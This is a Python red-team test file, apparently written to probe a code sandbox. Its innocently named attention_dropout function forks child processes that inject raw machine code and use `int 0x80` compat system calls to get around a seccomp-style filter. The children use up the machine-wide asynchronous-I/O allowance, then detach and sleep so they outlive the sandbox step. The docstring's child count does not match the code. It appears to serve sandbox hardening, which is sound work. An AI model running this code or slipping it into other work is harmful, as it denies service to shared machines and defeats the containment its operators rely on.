"""Red team (issue 26, machine-wide): takes fs.aio-max-nr through the i386 system-call table. Eight
children each map a page of x86-64 code that enters the kernel with `int 0x80` (the compat ABI, which a
filter written for x86_64 numbers alone does not see), call io_setup (i386 number 245) until refused, also
try the 64-bit io_setup and its x32 number, report the events they hold, then hold them (trying to outlive
the step). The parent also reads the machine's fs.aio-nr while they hold.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import mmap as _mmap
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]  # when the parent stops waiting: 2.5 s after the call, well inside a 5 s step
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_libc.mmap.restype = _ctypes.c_void_p
_libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int, _ctypes.c_long]
_KEPT = []


def _int80():
    """A function int80(number, a, b, c, d, e) that enters the kernel through the i386 table."""
    page = _mmap.mmap(-1, 4096, prot=_mmap.PROT_READ | _mmap.PROT_WRITE | _mmap.PROT_EXEC)
    page.write(bytes.fromhex("5389f889f34189ca89d14489d24489c64489cfcd805bc3"))
    _KEPT.append(page)
    address = _ctypes.addressof(_ctypes.c_char.from_buffer(page))
    return _ctypes.CFUNCTYPE(_ctypes.c_int, *[_ctypes.c_uint] * 6)(address)


def _child(write_end):
    events, how = 0, []
    try:
        low = _libc.mmap(None, 1 << 16, 3, 0x22 | 0x40, -1, 0)  # MAP_32BIT: i386 pointers
        call = _int80()
        for size in (65536, 8192, 1024, 128):
            for index in range(256):
                if _time.monotonic() > _DEADLINE[0] - 0.4:
                    break
                if call(245, size, low + 8 * (index % 8000), 0, 0, 0) != 0:
                    break
                events += size
                how.append("int80")
        for size in (65536, 4096, 128):
            context = _ctypes.c_ulong(0)
            if _libc.syscall(206, size, _ctypes.byref(context)) == 0:
                events += size
                how.append("x86_64")
            if _libc.syscall(0x40000000 | 543, size, _ctypes.byref(context)) == 0:
                events += size
                how.append("x32")
    except Exception as error:  # noqa: BLE001 - report what stopped it
        how.append(type(error).__name__)
    _os.write(write_end, f"{events} {','.join(sorted(set(how))) or '-'}\n".encode())
    _os.close(write_end)
    _os.setsid()
    _time.sleep(60)  # hold them; outlive the step if the sandbox lets it


def _grab(children=4):
    read_end, write_end = _os.pipe()
    for _ in range(children):
        if _time.monotonic() > _DEADLINE[0] - 1.0:
            break
        if _os.fork() == 0:
            try:
                _os.close(read_end)
                _child(write_end)
            finally:
                _os._exit(0)
    _os.close(write_end)
    text = _collect(read_end, _DEADLINE[0])
    lines = text.decode().split("\n")
    total = sum(int(line.split()[0]) for line in lines if line.split() and line.split()[0].isdigit())
    try:
        machine = open("/proc/sys/fs/aio-nr").read().strip() + "/" + open("/proc/sys/fs/aio-max-nr").read().strip()
    except OSError as error:
        machine = f"unreadable ({error.strerror})"
    return total, machine, sorted({line.split()[1] for line in lines if len(line.split()) > 1})


def _collect(read_end, deadline):
    """What the children reported before `deadline` (a slow child does not hold the step past it)."""
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    total, machine, how = _grab()
    raise RuntimeError(f"RTEAM r_aio_int80 ran: ALLOWANCE aio {total} events held by 4 children "
                       f"(machine fs.aio-nr {machine}; ways {how})")
